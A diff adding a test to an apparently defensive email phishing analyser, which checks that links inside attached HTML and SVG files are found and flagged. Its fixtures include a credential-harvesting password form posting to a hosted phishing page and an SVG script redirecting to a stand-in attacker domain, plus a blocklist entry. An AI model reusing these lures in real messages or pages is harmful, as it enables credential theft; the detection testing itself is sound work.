@@ -295,6 +295,37 @@ def test_office_documents_links_and_what_they_fetch_when_opened() -> None:
     assert found([("attachedTemplate", "file:///C:/Users/jan/Templates/Normal.dotm")]) == {}
 
 
+def test_an_attached_pages_addresses_are_links_of_the_message() -> None:
+    """A credential page (or an SVG "picture" with a script) posts to or opens the phishing
+    site: those addresses, entity-encoded ones too, are checked and named like any link."""
+    page = (
+        b"<html><body><form action='https://xls-login.000webhostapp.com/Excel.php' method=post>"
+        b"<input type=password name=pw></form>"
+        b"<a href='&#104;ttps://bit.ly/3page'>help</a></body></html>"
+    )
+    svg = (
+        b'<svg xmlns="http://www.w3.org/2000/svg"><script>'
+        b'window.location = "https://evil-redirect.example/r?u=1";</script></svg>'
+    )
+    raw = message(
+        attachments=[
+            ("PO45638.Xls.htm", page, "application/octet-stream"),
+            ("fax.svg", svg, "image/svg+xml"),
+        ]
+    )
+    msg = parse_message(raw)
+    found = {lk.url: lk.where for lk in msg.links}
+    assert found["https://xls-login.000webhostapp.com/Excel.php"] == "PO45638.Xls.htm"
+    assert found["https://bit.ly/3page"] == "PO45638.Xls.htm"
+    assert found["https://evil-redirect.example/r?u=1"] == "fax.svg"
+    ctx = AnalysisContext(
+        protected_domains=CTX.protected_domains, blocklist=frozenset({"evil-redirect.example"})
+    )
+    got = {r.name: r.detail for r in links.analyse(msg, Envelope(), ctx)}
+    assert "(in PO45638.Xls.htm)" in got["links.hosted_page"]
+    assert "intel.blocklist_domain" in got
+
+
 def test_password_protected_pdf() -> None:
     """Locked with a password given in the mail's text: nothing inside can be scanned. A PDF
     locked only against editing opens for anyone and is read as usual."""
